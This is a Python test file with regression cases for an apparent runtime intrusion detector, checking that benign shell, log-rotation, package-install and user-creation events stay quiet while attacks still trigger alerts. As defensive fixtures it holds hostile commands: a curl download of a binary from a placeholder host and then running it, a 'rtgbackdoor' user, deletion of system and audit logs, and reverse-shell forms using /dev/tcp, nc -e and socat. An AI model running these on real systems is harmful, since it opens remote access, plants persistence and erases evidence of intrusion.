"""Regressions for false positives found by the benign end-to-end suite
(``tests/e2e/test_e2e_benign.py``), each beside the malicious counterpart that must still fire.

- A Node service that made an outbound connection (an HTTP call, its database) and then shells
  out (``child_process.exec``/``spawn``: libuv gives children socketpair stdio) was a
  ReverseShell; a shell running a command string or a script is not a session on a connection.
- A web server running a CGI or hook script (``#!/bin/sh`` run directly, so the kernel makes the
  argv ``/bin/sh /srv/cgi-bin/x.sh``) or ``sh -ec 'cmd'`` was a SuspiciousShellCreated; only a
  shell that reads its commands from standard input is an interactive shell.
- An application rotating its own logs under /var/log/<app>/ (RotatingFileHandler renames,
  a cron job gzipping or expiring rotated backups) was DefenseEvasion SensitiveFileModified;
  removing or moving a live log, and touching the system's own logs, still are.
- A native program installed by ``python3 -m pip`` (a wheel's data/bin) and run was a
  NewBinaryExecuted: only ``pip`` by name counted as an installer. Installers are now judged
  like NewLibraryLoaded does (name, argv[0], the script an interpreter runs, ``-m pip``,
  ancestry); anything else that writes a binary that is then run still is.
- A package's maintainer script creating its system user (``useradd --system`` under dpkg or
  apt) is not Persistence:Runtime/SuspiciousCommand, nor are its writes to the account files a
  SensitiveFileModified; the same commands outside a package manager are.
"""

from __future__ import annotations

import pytest

from rtguard.detect.detectors._common import reads_commands_from_stdin
from rtguard.model.events import Event, EventKind, NetPayload
from rtguard.testing.behaviour import run
from rtguard.testing.events import ancestor, connect_event, event, exec_event, file_event

REV = "Execution:Runtime/ReverseShell"
SHELL = "Execution:Runtime/SuspiciousShellCreated"
PERSIST = "Persistence:Runtime/SuspiciousCommand"
PRIV_FILE = "PrivilegeEscalation:Runtime/SensitiveFileModified"
LOG_FILE = "DefenseEvasion:Runtime/SensitiveFileModified"


@pytest.mark.parametrize(
    ("argv", "session"),
    [
        (["sh"], True),
        (["sh", "-i"], True),
        (["bash", "-li"], True),
        (["/bin/sh", "-s", "arg"], True),
        (["bash", "-ic", "id"], True),
        (["sh", "-"], True),
        (["bash", "--norc", "--noprofile"], True),
        (["bash", "--rcfile", "/tmp/rc"], True),
        (["bash", "-o", "vi"], True),
        (["sh", "-c", "echo hi"], False),
        (["sh", "-ec", "echo hi"], False),
        (["bash", "-xc", "echo hi"], False),
        (["bash", "-o", "pipefail", "-c", "a | b"], False),
        (["/bin/sh", "/opt/hook.sh", "deploy"], False),
        (["/bin/sh", "-e", "/srv/cgi-bin/status.sh"], False),
        (["bash", "--", "job.sh"], False),
        (["bash", "--rcfile", "/tmp/rc", "job.sh"], False),
        (["bash", "-O", "extglob", "job.sh"], False),
    ],
)
def test_shell_reads_commands_from_stdin(argv: list[str], session: bool) -> None:
    assert reads_commands_from_stdin(argv) is session


def _node_connected(pid: int) -> Event:
    return connect_event("127.0.0.1", 5432, name="node", pid=pid, exec_id=f"exec-{pid}")


@pytest.mark.parametrize(
    "argv",
    [
        ["/bin/sh", "-c", "echo $((20 + 22))"],  # child_process.exec / execSync
        ["sh", "/opt/src/sh/hook.sh", "deploy"],  # spawn("sh", [script])
        ["/bin/sh", "/opt/src/sh/hook.sh", "direct"],  # execFile of a #!/bin/sh script
    ],
)
def test_node_service_shelling_out_is_not_a_reverse_shell(argv: list[str]) -> None:
    child = exec_event(
        "sh", argv=argv, pid=501, lineage=[ancestor("node", pid=500)], stdio_sockets=(True, True, True)
    )
    assert not run([_node_connected(500), child], REV)


@pytest.mark.parametrize("argv", [["sh", "-i"], ["/bin/sh"], ["bash", "-li"], ["sh", "-s"]])
def test_session_shell_on_a_connection_is_still_a_reverse_shell(argv: list[str]) -> None:
    child = exec_event(
        "sh", argv=argv, pid=511, lineage=[ancestor("node", pid=510)], stdio_sockets=(True, True, True)
    )
    (d,) = run([_node_connected(510), child], REV)
    assert d.rule_id == "RTG-0131"


def _listen(name: str, pid: int) -> Event:
    payload = NetPayload(family=2, protocol=6, local_ip="127.0.0.1", local_port=18080)
    return event(EventKind.NET_LISTEN, payload, name=name, pid=pid, exec_id=f"exec-{pid}")


@pytest.mark.parametrize(
    "argv",
    [
        ["/bin/sh", "/srv/www/cgi-bin/status.sh"],  # CGI script run directly by http.server
        ["/bin/sh", "-e", "/srv/www/cgi-bin/status.sh"],  # #!/bin/sh -e
        ["sh", "-ec", "convert a.png b.jpg"],
        ["bash", "-xc", "echo hi"],
    ],
)
def test_scripts_and_commands_from_a_web_server_are_not_interactive_shells(argv: list[str]) -> None:
    child = exec_event(
        "sh", argv=argv, pid=601, lineage=[ancestor("python3", pid=600)], stdio_sockets=(True, True, False)
    )
    assert not run([_listen("python3", 600), child], SHELL)


@pytest.mark.parametrize("argv", [["sh"], ["/bin/bash", "-i"], ["sh", "-s"], ["bash", "-ic", "id"]])
def test_interactive_shell_from_a_web_server_still_fires(argv: list[str]) -> None:
    child = exec_event("sh", argv=argv, pid=611, lineage=[ancestor("python3", pid=610)])
    (d,) = run([_listen("python3", 610), child], SHELL)
    assert d.rule_id == "RTG-0132"


def test_maintainer_script_creating_its_system_user_is_not_persistence() -> None:
    lineage = [ancestor("postinst", pid=700), ancestor("dpkg", pid=699), ancestor("apt-get", pid=698)]
    argv = ["useradd", "--system", "--gid", "rtgsvc", "--no-create-home", "rtgsvc"]
    useradd = exec_event("useradd", argv=argv, pid=701, lineage=lineage)
    assert not run([useradd], PERSIST)
    writes = [
        file_event(path, name="useradd", exe_path="/usr/sbin/useradd", pid=701, lineage=lineage)
        for path in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow")
    ]
    assert not run(writes, PRIV_FILE)


def test_user_created_outside_a_package_manager_still_fires() -> None:
    useradd = exec_event("useradd", argv=["useradd", "-M", "rtgbackdoor"], pid=711)
    (d,) = run([useradd], PERSIST)
    assert d.context["commandLineExample"] == "useradd -M rtgbackdoor"
    backdoor = file_event("/etc/passwd", name="python3", exe_path="/usr/bin/python3", pid=712)
    assert run([backdoor], PRIV_FILE)


def _rename(src: str, dst: str, name: str = "python3") -> Event:
    return file_event(src, kind=EventKind.FILE_RENAME, target_path=dst, name=name)


def _unlink(path: str, name: str = "gzip") -> Event:
    return file_event(path, kind=EventKind.FILE_UNLINK, name=name)


@pytest.mark.parametrize(
    "change",
    [
        _rename("/var/log/app/app.log", "/var/log/app/app.log.1"),  # RotatingFileHandler
        _rename("/var/log/app/app.log.2", "/var/log/app/app.log.3"),
        _rename("/var/log/app/app.log", "/var/log/app/app.log.2026-11-28"),  # TimedRotatingFileHandler
        _rename("/var/log/app/app.log", "/var/log/app/app.log.2026-11-28_18-00"),
        _rename("/var/log/app/app.log", "/var/log/app/app.log-20261128", name="java"),
        _rename("/var/log/app/debug.log", "/var/log/app/debug.log.old", name="java"),
        _rename("/var/log/app/app.log", "/var/log/app/app.2026-11-28.log", name="java"),  # logback
        _rename("/var/log/app/app.log", "/var/log/app/app-11-28-2026-1.log.gz", name="java"),  # log4j2
        _unlink("/var/log/app/app-2026-10-01-3.log", name="java"),
        _unlink("/var/log/app/app.log.1"),  # gzip of a rotated log
        _unlink("/var/log/app/app.log.3", name="python3"),  # the oldest backup expired
        _unlink("/var/log/app/app.log.4.gz", name="find"),
        _unlink("/var/log/nginx/access.log-20261101.gz", name="rm"),
    ],
)
def test_an_application_rotating_its_own_logs_is_not_log_tampering(change: Event) -> None:
    assert not run([change], LOG_FILE)


@pytest.mark.parametrize(
    "change",
    [
        _unlink("/var/log/app/app.log", name="rm"),  # the live log removed
        _rename("/var/log/app/app.log", "/tmp/x", name="mv"),  # moved away
        _rename("/var/log/app/app.log", "/var/log/app/.hidden", name="mv"),
        _rename("/var/log/app/app.log", "/var/log/app/app.log.txt", name="mv"),
        _unlink("/var/log/app/error.log", name="python3"),
        _rename("/var/log/auth.log", "/var/log/auth.log.1", name="mv"),  # system logs: never exempt
        _unlink("/var/log/auth.log.1", name="rm"),
        _unlink("/var/log/wtmp.1", name="rm"),
        _unlink("/var/log/audit/audit.log.2", name="rm"),
        _unlink("/var/log/apt/history.log.1.gz", name="rm"),
        _rename("/var/log/syslog", "/var/log/syslog-20261128", name="python3"),
        file_event("/var/log/app/app.log.1", kind=EventKind.FILE_SYMLINK, target_path="/dev/null", name="ln"),
    ],
)
def test_log_removal_and_system_log_rotation_still_fire(change: Event) -> None:
    (d,) = run([change], LOG_FILE)
    assert d.rule_id == "RTG-0127"


NEW = "Execution:Runtime/NewBinaryExecuted"


@pytest.mark.parametrize(
    ("writer", "argv", "lineage"),
    [
        ("python3.11", ["/usr/bin/python3", "-m", "pip", "install", "--no-index", "rtgdemo"], []),
        ("pip", ["/usr/bin/python3", "/usr/bin/pip", "install", "rtgdemo"], []),
        ("node", ["node", "/usr/bin/npm", "install", "./rtg-demo-1.0.0.tgz"], []),
        ("cp", ["cp", "build/tool", "/usr/local/bin/tool"], ["postinst", "dpkg"]),
        ("ld", ["ld", "-o", "/usr/local/bin/ext"], ["gcc", "pip"]),
    ],
)
def test_binary_installed_by_an_installer_then_run_is_not_new(
    writer: str, argv: list[str], lineage: list[str]
) -> None:
    write = file_event(
        "/usr/local/bin/rtgdemo-native",
        name=writer,
        argv=argv,
        lineage=[ancestor(n, pid=800 + i) for i, n in enumerate(lineage)],
    )
    run_it = exec_event(
        "rtgdemo-native", exe_path="/usr/local/bin/rtgdemo-native", exe_written_after_start=True
    )
    assert not run([write, run_it], NEW)


@pytest.mark.parametrize(
    ("writer", "argv"),
    [
        ("python3.11", ["/usr/bin/python3", "-c", "open('/usr/local/bin/x','wb').write(payload)"]),
        ("python3.11", ["/usr/bin/python3", "/tmp/pip-helper.py"]),
        ("node", ["node", "/app/server.js"]),
        ("cc", ["cc", "-o", "/usr/local/bin/x", "exploit.c"]),
        ("curl", ["curl", "-o", "/usr/local/bin/x", "http://198.51.100.7/x"]),
    ],
)
def test_binary_written_by_anything_else_then_run_is_still_new(writer: str, argv: list[str]) -> None:
    write = file_event("/usr/local/bin/x", name=writer, argv=argv)
    run_it = exec_event("x", exe_path="/usr/local/bin/x", exe_written_after_start=True)
    (d,) = run([write, run_it], NEW)
    assert d.context["modifyingProcess"] == f"/usr/bin/{writer}"


# The sensor names what stdio is (ABI 3.1): a session shell on a unix socketpair of a service
# that connected out is not a reverse shell, one on the TCP connection (or behind a relay tool's
# socketpair) is; a script piped into a bare sh from a web server is not a session.


def _connected(name: str, pid: int) -> Event:
    return connect_event("203.0.113.9", 4444, name=name, pid=pid, exec_id=f"exec-{pid}")


def test_session_shell_on_a_socketpair_of_a_service_is_not_a_reverse_shell() -> None:
    child = exec_event(
        "sh",
        argv=["/bin/sh"],
        pid=521,
        lineage=[ancestor("node", pid=520)],
        stdio_sockets=(True, True, True),
        stdio_types=("unix", "unix", "unix"),
    )
    assert not run([_connected("node", 520), child], REV)


@pytest.mark.parametrize(
    ("connector", "types"),
    [
        ("node", ("inet", "inet", "inet")),  # bash -i >& /dev/tcp/..., nc -e: the connection itself
        ("socat", ("unix", "unix", "unix")),  # socat TCP:host:port EXEC:sh: a socketpair to the relay
        ("nc", ("inet", "unix", "unix")),
        ("python3", ("socket", "socket", "socket")),  # a sensor that cannot name the family
        ("python3", ("", "", "")),  # an older sensor: stdio_sockets alone
    ],
)
def test_reverse_shells_on_the_network_still_fire(connector: str, types: tuple[str, str, str]) -> None:
    child = exec_event(
        "sh",
        argv=["sh", "-i"],
        pid=531,
        lineage=[ancestor(connector, pid=530)],
        stdio_sockets=(True, True, True),
        stdio_types=types,
    )
    (d,) = run([_connected(connector, 530), child], REV)
    assert d.rule_id == "RTG-0131"


@pytest.mark.parametrize("stdin", ["pipe", "file", "char"])
def test_script_piped_into_a_bare_shell_by_a_web_server_is_not_a_session(stdin: str) -> None:
    child = exec_event(
        "sh",
        argv=["/bin/sh"],
        pid=621,
        lineage=[ancestor("python3", pid=620)],
        stdio_types=(stdin, "pipe", "pipe"),
    )
    assert not run([_listen("python3", 620), child], SHELL)


def test_script_fed_through_a_socketpair_by_a_service_is_not_a_session() -> None:
    """Node's spawn gives the child socketpair stdio: ``spawnSync("sh", [], {input})``."""
    child = exec_event(
        "sh",
        argv=["sh"],
        pid=641,
        lineage=[ancestor("node", pid=640)],
        stdio_sockets=(True, True, True),
        stdio_types=("unix", "unix", "unix"),
    )
    assert not run([_listen("node", 640), child], SHELL)


@pytest.mark.parametrize(
    ("service", "stdin"),
    [
        ("python3", "tty"),
        ("python3", "inet"),  # nc -l -e /bin/sh style: the accepted connection itself
        ("socat", "unix"),  # socat TCP-LISTEN:4444 EXEC:/bin/sh
        ("python3", "socket"),  # a sensor that cannot name the family
        ("python3", ""),  # an older sensor
    ],
)
def test_bare_shell_on_a_terminal_or_socket_from_a_web_server_still_fires(service: str, stdin: str) -> None:
    child = exec_event(
        "sh",
        argv=["/bin/sh"],
        pid=631,
        lineage=[ancestor(service, pid=630)],
        stdio_sockets=(stdin in ("inet", "unix", "socket"), False, False),
        stdio_types=(stdin, "pipe", "pipe"),
    )
    (d,) = run([_listen(service, 630), child], SHELL)
    assert d.rule_id == "RTG-0132"
